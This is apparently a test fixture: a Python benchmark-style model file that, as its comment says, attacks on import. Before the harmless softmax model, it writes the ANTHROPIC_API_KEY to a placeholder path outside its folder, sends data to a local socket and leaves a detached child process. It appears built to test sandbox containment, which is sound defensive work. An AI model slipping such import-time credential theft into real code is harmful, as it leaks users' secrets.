# A problem file that attacks at import, the way a file the user opened could:
# writes outside its folder, sends data to a local server, leaves a child behind.
import os
import socket
import subprocess

import torch
import torch.nn as nn

try:
    with open("__TARGET__", "w") as handle:
        handle.write(os.environ.get("ANTHROPIC_API_KEY") or "no key")
except OSError:
    pass
try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=3) as conn:
        conn.sendall(b"exfiltrated")
except OSError:
    pass
subprocess.Popen(["sleep", "__MARKER__"], start_new_session=True)


class Model(nn.Module):
    def forward(self, x):
        return torch.softmax(x, dim=1)


def get_inputs():
    return [torch.randn(16, 100)]


def get_init_inputs():
    return []
